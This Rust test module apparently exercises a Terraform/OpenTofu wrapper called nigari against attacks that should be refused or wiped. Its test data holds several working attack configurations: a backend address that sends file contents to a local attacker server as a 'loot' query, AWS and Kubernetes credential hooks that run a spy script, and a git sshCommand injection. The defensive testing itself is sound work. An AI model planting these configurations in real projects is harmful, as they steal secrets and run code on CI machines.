//! Attacks that end a run, or that are refused before one begins: A2, A3, A5, A6, A13, A14, A15.
//!
//! Rule: refused means that nigari says so; that tofu stumbles by chance is no defence. What is wiped with its run has
//! nothing.

use std::fs;

use super::attacker::has;
use super::batch::library;
use super::stage::{Delivery, Stage, TELLS};
use super::{Observed, Outcome};
use crate::e2e::PLAIN;

/// Applies files that must be refused with a text of ours.
fn refused(stage: &Stage, delivery: Delivery, files: &[(&str, String)], says: &[&str]) -> Outcome {
    let said = stage.apply(&stage.configuration(files), delivery.name());
    let all = said.all();
    assert_eq!(said.code, Some(1), "{all}");
    assert!(says.iter().all(|text| all.contains(text)), "{says:?}: {all}");
    Outcome::Refused
}

pub(super) fn run(stage: &Stage, delivery: Delivery, module: &str, observed: &mut Observed) {
    let tells = || ("fetch.sh", TELLS.to_owned());
    let backend =
        "terraform {\n  backend \"local\" {\n    path = \"state-${strrev(try(file(local.told), \"\"))}\"\n  }\n}\n";
    let files = [tells(), ("main.tf", format!("{module}{backend}"))];
    observed.add("A2", delivery, refused(stage, delivery, &files, &["local", "hint: "]));
    observed.add("A2, kept", delivery, kept_backend(stage, delivery, module));

    let link = "module \"theft\" {\n  source = dirname(local.told)\n}\n";
    let files = [tells(), ("main.tf", format!("{module}{link}"))];
    let said = stage.apply(&stage.configuration(&files), delivery.name());
    // tofu makes a link, and finds a directory that cannot be listed.
    assert!(said.code == Some(1) && said.all().contains("Unreadable module directory"), "{}", said.all());
    stage.wait_for_wipe();
    observed.add("A3", delivery, Outcome::Nothing);

    let outcomes = SPIES.map(|spy| program_of_backend(stage, delivery, module, spy));
    assert_eq!(outcomes[0], outcomes[1], "A5: a backend for each outcome");
    observed.add("A5", delivery, outcomes[0]);

    let mark = stage.world.path("git-ran");
    let config = format!("[core]\n\tbare = true\n\tsshCommand = sh -c 'touch {}'\n", mark.display());
    let git = "module \"g\" {\n  source = \"git::ssh://git@127.0.0.1:1/x.git\"\n}\n".to_owned();
    let bare = [("HEAD", "ref: refs/heads/main\n".to_owned()), ("config", config), ("objects/x", String::new())];
    let files = [&bare[..], &[("refs/x", String::new()), ("main.tf", git)]].concat();
    let outcome = refused(stage, delivery, &files, &["may not be uploaded"]);
    assert!(!mark.exists());
    observed.add("A6", delivery, outcome);

    let text = "terraform {\n  backend \"local\" {}\n}\n".to_owned();
    let files = [("main.tf", PLAIN.to_owned()), ("zz_override.tf", text)];
    observed.add("A13", delivery, refused(stage, delivery, &files, &["hint: "]));
    let hiding = "{\"terraform\": {}}\n".to_owned();
    let files = [("main.tf", PLAIN.to_owned()), ("nigari_override.tofu.json", hiding)];
    refused(stage, delivery, &files, &["hint: "]);

    let cloud = "terraform {\n  cloud {\n    hostname     = \"localhost:1\"\n    organization = \"o\"\n    workspaces {\n      \
                 name = \"w\"\n    }\n  }\n}\n";
    let said = stage.apply(&stage.configuration(&[("main.tf", format!("{PLAIN}{cloud}"))]), delivery.name());
    let shown = stage.world.run(&stage.world.newest());
    assert_eq!((said.code, &shown["backend"]), (Some(1), &"cloud".into()), "{}\n{shown:#}", said.all());
    observed.add("A14", delivery, Outcome::Kept);

    let earlier = "{\"version\":4,\"terraform_version\":\"1.12.6\",\"serial\":1,\"lineage\":\"a\",\"outputs\":{},\
                 \"resources\":[],\"check_results\":null}"
        .to_owned();
    let files = [("main.tf", PLAIN.to_owned()), ("terraform.tfstate", earlier)];
    let workspace = format!("{}-new", delivery.name());
    let said = stage.apply(&stage.configuration(&files), &workspace);
    assert!(said.code == Some(1) && said.all().contains("nigari state push"), "{}", said.all());
    observed.add("A15", delivery, Outcome::Refused);
}

/// A2 with a backend that is kept: what it is given is computed by the full `init`, when there is nothing to read.
fn kept_backend(stage: &Stage, delivery: Delivery, module: &str) -> Outcome {
    stage.attacker.forget();
    let docker = "regex(\"docker_style_config_files = \\\\[\\\"([^\\\"]+)\", file(local.told))[0]";
    let backend = format!(
        "terraform {{\n  backend \"http\" {{\n    address = \"http://127.0.0.1:{}/state?loot=${{urlencode(strrev(try(file({docker}), \
         try(file(local.told), \"gone\"))))}}\"\n  }}\n}}\n",
        stage.attacker.port
    );
    let said = stage.apply(
        &stage.configuration(&[("fetch.sh", TELLS.to_owned()), ("main.tf", format!("{module}{backend}"))]),
        delivery.name(),
    );
    let sent = stage.attacker.everything();
    assert!(String::from_utf8_lossy(&sent).contains("/state?loot=enog"), "A2 did not run: {}", said.all());
    stage.wait_for_wipe();
    if has(&stage.canary, &sent) { Outcome::Open } else { Outcome::Nothing }
}

/// A backend, and the file that makes it start `spy.sh`: of AWS and of Kubernetes.
const SPIES: [(&str, &str, &str); 2] = [
    (
        "backend \"s3\" {\n    bucket = \"none\"\n    key = \"none\"\n    region = \"us-east-1\"\n    profile = \"spy\"\n    \
         shared_config_files = [\"aws.conf\"]\n    skip_metadata_api_check = true\n  }",
        "aws.conf",
        "[profile spy]\ncredential_process = /bin/bash spy.sh\n",
    ),
    (
        "backend \"kubernetes\" {\n    secret_suffix = \"none\"\n    config_path = \"kube.conf\"\n  }",
        "kube.conf",
        "apiVersion: v1\nkind: Config\ncurrent-context: c\nclusters: [{name: c, cluster: {server: \"https://127.0.0.1:1\"}}]\n\
         contexts: [{name: c, context: {cluster: c, user: u}}]\nusers:\n- name: u\n  user:\n    exec: {apiVersion: \
         client.authentication.k8s.io/v1beta1, command: /bin/bash, args: [spy.sh], interactiveMode: Never}\n",
    ),
];

/// A5: the program runs in `init`, when nothing is left.
fn program_of_backend(
    stage: &Stage,
    delivery: Delivery,
    module: &str,
    (backend, name, content): (&str, &'static str, &str),
) -> Outcome {
    stage.attacker.forget();
    let files = [
        ("fetch.sh", TELLS.to_owned()),
        ("main.tf", format!("{module}terraform {{\n  {backend}\n}}\n")),
        (name, content.to_owned()),
        ("library.sh", library(stage)),
        ("spy.sh", ". ./library.sh\nloot | tell A5\nexit 1\n".to_owned()),
    ];
    let said = stage.apply(&stage.configuration(&files), delivery.name());
    let report = stage.attacker.report("A5").unwrap_or_else(|| panic!("A5 did not run by {name}: {}", said.all()));
    assert!(String::from_utf8_lossy(&report).contains("looted"), "{}", said.all());
    let shown = stage.world.run(&stage.world.newest());
    assert!(shown["receipts"][0]["modules"].to_string().contains("greeting"), "the module had come: {shown:#}");
    stage.wait_for_wipe();
    fs::metadata(stage.path("runs")).unwrap();
    if has(&stage.canary, &report) { Outcome::Open } else { Outcome::Nothing }
}
